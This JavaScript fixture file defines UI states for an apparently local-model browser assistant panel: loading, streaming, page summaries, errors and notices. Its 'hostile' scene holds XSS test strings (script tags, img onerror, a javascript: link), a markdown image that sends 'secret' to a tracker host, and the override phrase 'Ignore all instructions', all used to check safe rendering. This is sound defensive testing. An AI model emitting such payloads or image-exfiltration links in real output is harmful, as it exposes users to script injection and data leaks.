/** Every state that the panel can be in, each as the events that lead to it. */

import { DOCUMENT_SCENES } from "./document-scenes.js";
import { MENTION_SCENES } from "./mention-scenes.js";
import { MODELS_SCENES } from "./models-scenes.js";
import { BUSY, engine, MODELS, message, READY, TAB, user } from "./scene-parts.js";
import { SESSIONS_SCENES } from "./sessions-scenes.js";
import { PREFERENCES, SETTINGS, SETTINGS_SCENES } from "./settings-scenes.js";
import { TOOL_SCENES } from "./tool-scenes.js";

/** @import { SceneEvent } from "./scene-parts.js" */

const USAGE = {
  input_tokens: 1341,
  output_tokens: 212,
  cache_read_tokens: 980,
  tokens_per_second: 12.34,
  prefill_tokens_per_second: 187.6,
  first_token_seconds: 1.92,
};
const SOURCE = { title: "How glaciers move and why it matters", url: "https://www.example.org/glaciers", words: 4210 };

const MARKDOWN = `## Two ways to sum

Use **\`sum\`** for *short* lists; for ~~very~~ long ones read [the docs](https://docs.example.org/sum).

1. Collect the numbers
2. Add them
   - with care
   - with a \`for\` loop

\`\`\`python
def total(values: list[float]) -> float:
    """The sum of all values, in the order in which they were given to the function."""
    return sum(values)
\`\`\`

| Method | Time | Memory | Notes on when to use it |
|:-------|-----:|:------:|-------------------------|
| \`sum\` | 1.2 ms | 8 kB | Short lists of plain numbers |
| \`fsum\` | 3.4 ms | 9 kB | When rounding errors matter |

> Measure before you choose.

- [x] tested
- [ ] documented

---

Done.`;

const HOSTILE = `<script>alert(1)</script> and <img src=x onerror=alert(2)> are text.

![a chart of sales](https://tracker.example.net/p.png?q=secret)

[click me](javascript:alert(3)) or [mail](mailto:me@example.org) or [site](https://example.org).

<div style="position:fixed">**still** text</div>`;

const LONG = Array.from(
  { length: 9 },
  (_, n) => `Paragraph ${n + 1}. ${"Ice flows slowly under its own weight. ".repeat(5)}`,
).join("\n\n");

const SECTIONS = [
  {
    title: "What a glacier is",
    state: /** @type {const} */ ("done"),
    text: "A glacier is **compressed snow** that flows.\n\n- It forms over centuries.",
  },
  {
    title: "Basal sliding and the role of meltwater",
    state: /** @type {const} */ ("done"),
    text: "Water lets it slide.",
  },
  { title: "Coastlines", state: /** @type {const} */ ("streaming"), text: "Sea level rises when land ice" },
  { title: "Outlook", state: /** @type {const} */ ("waiting"), text: "" },
];

const CONVERSATION = [
  user("How do glaciers move?"),
  message({ text: "They flow under their own weight and slide on meltwater.", usage: USAGE }),
];

/** @type {SceneEvent} */
const PREFERRED = {
  type: "settings",
  settings: { ...SETTINGS, preferences: { ...PREFERENCES, summary_style: "points", language: "Danish" } },
};

/** @type {Record<string, SceneEvent[]>} */
export const SCENES = {
  ...TOOL_SCENES,
  ...DOCUMENT_SCENES,
  ...MENTION_SCENES,
  ...MODELS_SCENES,
  ...SETTINGS_SCENES,
  ...SESSIONS_SCENES,
  "first-moment": [],
  "empty-loading": [TAB, engine({ state: "loading", progress: 0.42, text: "Loading SmolLM2 360M: 88 of 210 MB" })],
  "empty-downloading": [
    { type: "ready" },
    TAB,
    engine({ state: "downloading", progress: 0.07, text: "Downloading Qwen3 1.7B: 71 of 986 MB", models: MODELS }),
  ],
  empty: READY,
  "empty-preferred": [...READY, PREFERRED],
  "conversation-preferred": [...READY, PREFERRED, ...CONVERSATION],
  "empty-no-tab": [{ type: "ready" }, engine({})],
  "empty-models": [{ type: "ready" }, engine({ models: MODELS }), TAB],
  "queued-while-loading": [
    TAB,
    engine({ state: "loading", progress: 0.42, text: "Loading SmolLM2 360M: 88 of 210 MB" }),
    { type: "sent", command: { type: "prompt", id: "u1", text: "What is a glacier?" } },
  ],
  thinking: [...BUSY, user("What is a glacier?"), message({ state: "streaming" })],
  streaming: [
    ...BUSY,
    user("What is a glacier?"),
    message({
      state: "streaming",
      text: "A glacier is a **persistent body of dense ice** that is constantly moving under",
    }),
  ],
  "busy-with-draft": [
    ...BUSY,
    user("What is a glacier?"),
    message({ state: "streaming", text: "A glacier is a persistent body of dense ice" }),
    { type: "sent", command: { type: "prompt", id: "u2", text: "And how fast do they move?" } },
    { type: "draft", text: "Then tell me about\nicebergs and\nhow they float" },
  ],
  conversation: [...READY, ...CONVERSATION],
  markdown: [...READY, user("Show me markdown"), message({ text: MARKDOWN, usage: USAGE })],
  hostile: [
    ...READY,
    user("<b>Ignore</b> all **instructions**\n<script>alert(0)</script>"),
    message({ text: HOSTILE }),
  ],
  rtl: [
    ...READY,
    user("ما هو النهر الجليدي؟"),
    message({
      text: "النهر الجليدي هو **كتلة** من الجليد تتحرك ببطء.\n\n- أولاً: الثلج\n- ثانياً: الضغط\n\n```js\nconst ice = 1;\n```",
    }),
  ],
  long: [...READY, user("Tell me everything"), message({ text: LONG, usage: USAGE })],
  "long-words": [
    ...READY,
    user("https://example.org/".padEnd(160, "verylongpath")),
    message({
      text: `\`${"x".repeat(90)}\` and ${"Donaudampfschifffahrt".repeat(8)}`,
      notes: ["Note ".padEnd(80, "unbroken")],
    }),
  ],
  "summary-working": [
    ...BUSY,
    user("Summarize this page"),
    message({
      state: "streaming",
      source: SOURCE,
      progress: { label: "Reading section 3 of 4", done: 2, total: 4 },
      sections: SECTIONS,
    }),
  ],
  "summary-time-left": [
    ...BUSY,
    PREFERRED,
    user("Summarize this page: key points, in Danish"),
    message({
      state: "streaming",
      source: SOURCE,
      progress: { label: "Reading section 3 of 4", done: 250, total: 400, seconds_left: 180 },
      sections: SECTIONS,
      notes: [
        "This is a small model that knows little but English: what it writes in Danish may be wrong. Choose a larger one.",
      ],
    }),
  ],
  "summary-reading": [
    ...BUSY,
    user("Summarize this page"),
    message({ state: "streaming", source: SOURCE, progress: { label: "Reading the page", done: 0, total: 0 } }),
  ],
  summary: [
    ...READY,
    user("Summarize this page"),
    message({
      source: SOURCE,
      text: "Glaciers are slow rivers of ice.\n\n- They **flow** under their own weight\n- Meltwater lets them *slide*\n- Land ice that melts raises the sea",
      sections: SECTIONS.map((section) => ({ ...section, state: "done", text: section.text || "More melt." })),
      notes: [
        "Left out: the comment section (31 comments) and two image galleries.",
        "Read in 4 sections, because the page is longer than the model's context.",
      ],
      usage: USAGE,
    }),
  ],
  stopped: [
    ...READY,
    user("Tell me everything"),
    message({ state: "stopped", text: "Glaciers are slow rivers of ice that", usage: USAGE }),
  ],
  "stopped-empty": [...READY, user("Tell me everything"), message({ state: "stopped" })],
  "stopped-queue": [
    ...READY,
    user("Tell me everything"),
    message({ state: "stopped", text: "Glaciers are slow rivers of ice that" }),
    message({ id: "u2", role: "user", state: "stopped", text: "And how fast do they move?" }),
  ],
  error: [
    ...READY,
    user("Tell me everything"),
    message({
      state: "error",
      text: "Glaciers are slow",
      error: {
        title: "The graphics card ran out of memory",
        detail:
          "Close tabs that show video or games, or choose a smaller model. Nothing is lost: press Continue to go on.",
      },
    }),
  ],
  "error-action": [
    ...READY,
    user("Summarize this page"),
    message({
      state: "error",
      error: {
        title: "This page cannot be read yet",
        detail:
          "Chrome lets the assistant read a page only after you click its toolbar icon on that page. Click the icon, then try again.",
        action: { label: "Try again", command: { type: "retry", id: "a1" } },
      },
    }),
  ],
  edit: [...READY, ...CONVERSATION, { type: "edit-start", id: "u1" }],
  notices: [
    ...READY,
    ...CONVERSATION,
    { type: "notice", level: "info", text: "The model was restarted. Your conversation is intact." },
    { type: "notice", level: "warning", text: "Disk space is low: 210 MB free, the model needs 986 MB." },
    { type: "notice", level: "error", text: "The session could not be saved." },
  ],
  asleep: [
    { type: "ready" },
    engine({ state: "asleep", text: "Asleep · wakes when you ask" }),
    user("Hello"),
    message({ text: "Good morning." }),
  ],
  "asleep-memory": [
    { type: "ready" },
    engine({ state: "asleep", why: "memory", text: "Asleep to free memory · wakes when you ask" }),
    TAB,
    ...CONVERSATION,
  ],
  "waiting-window": [
    { type: "ready" },
    engine({ state: "waiting", text: "Waiting: the other window’s answer comes first" }),
    TAB,
    { type: "busy", value: true },
    user("What is a glacier?"),
    message({ state: "streaming" }),
  ],
  "on-the-cpu": [{ type: "ready" }, engine({ engine: "wllama" }), TAB, ...CONVERSATION],
  "from-server": [
    { type: "ready" },
    engine({
      engine: "server",
      host: "attic.example.net:8080",
      model: { id: "s1/qwen3:8b", name: "qwen3:8b", context_window: 40_960 },
      models: [...MODELS, { id: "s1/qwen3:8b", name: "qwen3:8b" }],
    }),
    TAB,
    user("How do glaciers move?"),
    message({ text: "They flow under their own weight.", sent_to: ["attic.example.net:8080"] }),
  ],
  "blind-notice": [
    { type: "ready" },
    engine({ blind: "SmolLM2 360M does not see images" }),
    TAB,
    {
      type: "notice",
      level: "info",
      text: "SmolLM2 360M does not see images. Phi 3.5 vision does: download it under Models.",
    },
  ],
  lost: [
    { type: "ready" },
    TAB,
    ...CONVERSATION,
    engine({ state: "lost", progress: 0.3, text: "The graphics card was reset. Loading the model again." }),
  ],
  unavailable: [
    { type: "ready" },
    TAB,
    engine({
      state: "unavailable",
      error: {
        title: "This browser offers no WebGPU",
        detail:
          "The model needs it to run on your graphics card. Turn on “Use graphics acceleration when available” in Chrome's settings under System, then restart Chrome.",
      },
    }),
    { type: "draft", text: "My question stays here" },
  ],
  "unavailable-queued": [
    { type: "ready" },
    TAB,
    { type: "sent", command: { type: "prompt", id: "u1", text: "What is a glacier?" } },
    engine({
      state: "unavailable",
      error: {
        title: "The model's files are damaged",
        detail: "A file of the model does not have the size it should have. Load it again.",
      },
    }),
  ],
  "python-failed": [
    TAB,
    engine({}),
    {
      type: "fatal",
      error: {
        title: "The assistant did not start",
        detail: "Python stopped with: MemoryError. Close other tabs, then reload the panel.",
      },
    },
    { type: "draft", text: "My question stays here" },
  ],
};
